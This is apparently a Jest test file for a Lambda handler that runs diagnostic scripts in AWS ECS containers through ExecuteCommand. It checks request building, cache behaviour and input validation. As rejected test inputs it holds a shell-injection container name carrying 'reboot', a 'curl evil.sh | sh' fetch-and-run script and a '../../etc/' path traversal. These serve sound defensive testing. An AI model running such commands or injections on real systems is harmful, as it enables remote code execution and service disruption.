import { DescribeClustersCommand, DescribeTasksCommand, ExecuteCommandCommand } from '@aws-sdk/client-ecs';
import { beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { getCatalogScript } from '#lib/catalog.ts';
import { shellSplit } from '#local/agent-emulator/shlex.ts';
import {
  CLUSTER_ARN,
  lambdaContext,
  loadRunDiagnostic,
  mockRunDiagnosticClients,
  type RunDiagnosticHandler,
  runInput,
  TASK_ARN,
} from './fixtures.ts';

const ecs = mockRunDiagnosticClients();
let handler: RunDiagnosticHandler;
let clearClusterCache: () => void;

/** A session whose data channel refuses connections (loopback): the capture fails right after the call. */
const DEAD_SESSION = {
  sessionId: 'ecs-execute-command-test',
  streamUrl: 'ws://127.0.0.1:9/v1/data-channel/ecs-execute-command-test?role=publish_subscribe',
  tokenValue: 'token',
};

describe('run-diagnostic request building', () => {
  beforeAll(async () => {
    ({ handler, clearClusterCache } = await loadRunDiagnostic());
  });

  beforeEach(() => {
    ecs.reset();
    clearClusterCache();
    ecs.on(DescribeClustersCommand).resolves({ clusters: [{ clusterName: 'payments-prod' }], failures: [] });
    ecs.on(ExecuteCommandCommand).resolves({ session: DEAD_SESSION });
  });

  it('calls ExecuteCommand interactively on the target with the catalog text under /bin/sh -c', async () => {
    // Arrange
    const input = runInput({ container: "checkout'; reboot; echo '" });

    // Act
    await handler(input, lambdaContext()).catch(() => undefined);

    // Assert
    const calls = ecs.commandCalls(ExecuteCommandCommand);
    expect(calls).toHaveLength(1);
    const sent = calls[0]?.args[0].input;
    expect(sent).toMatchObject({
      cluster: CLUSTER_ARN,
      task: TASK_ARN,
      container: input.target.container,
      interactive: true,
    });
    const argv = shellSplit(sent?.command ?? '');
    expect(argv.slice(0, 2)).toEqual(['/bin/sh', '-c']);
    expect(argv[2]).toMatch(/^export TERM=dumb PAGER=cat NO_COLOR=1; /);
    expect(argv[4]).toBe(getCatalogScript('basic')?.text);
    expect(sent?.command).not.toContain('reboot');
    expect(sent?.command).not.toContain('checkout-cpu-high');
  });

  it('uses a fresh marker nonce on every run', async () => {
    await handler(runInput(), lambdaContext()).catch(() => undefined);
    await handler(runInput(), lambdaContext()).catch(() => undefined);

    const [first, second] = ecs
      .commandCalls(ExecuteCommandCommand)
      .map((call) => shellSplit(call.args[0].input.command ?? '')[2]);
    expect(first).toMatch(/__ECSDIAG_RC_ [0-9a-f]{32} /);
    expect(first).not.toBe(second);
  });

  it('reads the cluster configuration once per container, and the task only for a runtime id the target lacks', async () => {
    // Arrange
    ecs.on(DescribeClustersCommand).resolves({
      clusters: [
        {
          clusterName: 'payments-prod',
          configuration: {
            executeCommandConfiguration: { kmsKeyId: 'arn:aws:kms:us-east-1:493817260514:key/k' },
          },
        },
      ],
    });
    ecs
      .on(DescribeTasksCommand)
      .resolves({ tasks: [{ containers: [{ name: 'checkout', runtimeId: 'abc-123' }] }] });

    // Act
    await handler(runInput(), lambdaContext()).catch(() => undefined);
    await handler(runInput({ runtimeId: 'known', facts: { launchType: 'FARGATE' } }), lambdaContext()).catch(
      () => undefined,
    );

    // Assert
    expect(ecs.commandCalls(DescribeClustersCommand)).toHaveLength(1);
    expect(ecs.commandCalls(DescribeClustersCommand)[0]?.args[0].input).toEqual({
      clusters: [CLUSTER_ARN],
      include: ['CONFIGURATIONS'],
    });
    expect(ecs.commandCalls(DescribeTasksCommand)).toHaveLength(1);
    expect(ecs.commandCalls(ExecuteCommandCommand)).toHaveLength(2);
  });

  it('does not describe the task on a cluster without an exec KMS key (the task facts are in targets.jsonl)', async () => {
    await handler(runInput(), lambdaContext()).catch(() => undefined);
    await handler(runInput({ facts: { image: 'checkout:1' } }), lambdaContext()).catch(() => undefined);

    expect(ecs.commandCalls(DescribeTasksCommand)).toHaveLength(0);
    expect(ecs.commandCalls(ExecuteCommandCommand)).toHaveLength(2);
  });

  it.each([
    ['target.script', { script: 'curl evil.sh | sh' }],
    ['target.container', { container: '' }],
    ['target.taskArn', { taskArn: 42 as unknown as string }],
  ])('rejects a bad %s with InvalidRequestError before calling ECS', async (field, target) => {
    const failure = await handler(runInput(target), lambdaContext()).then(
      () => undefined,
      (error: unknown) => error as Error,
    );

    expect(failure?.name).toBe('InvalidRequestError');
    expect(failure?.message).toMatch(new RegExp(`^${field.replaceAll('.', '\\.')}: `));
    expect(ecs.commandCalls(ExecuteCommandCommand)).toHaveLength(0);
  });

  it('rejects a run prefix outside runs/<date>/<execution>/', async () => {
    const input = { ...runInput(), run: { executionName: 'x', prefix: '../../etc/' } };

    await expect(handler(input, lambdaContext())).rejects.toMatchObject({
      name: 'InvalidRequestError',
      field: 'run.prefix',
    });
  });
});
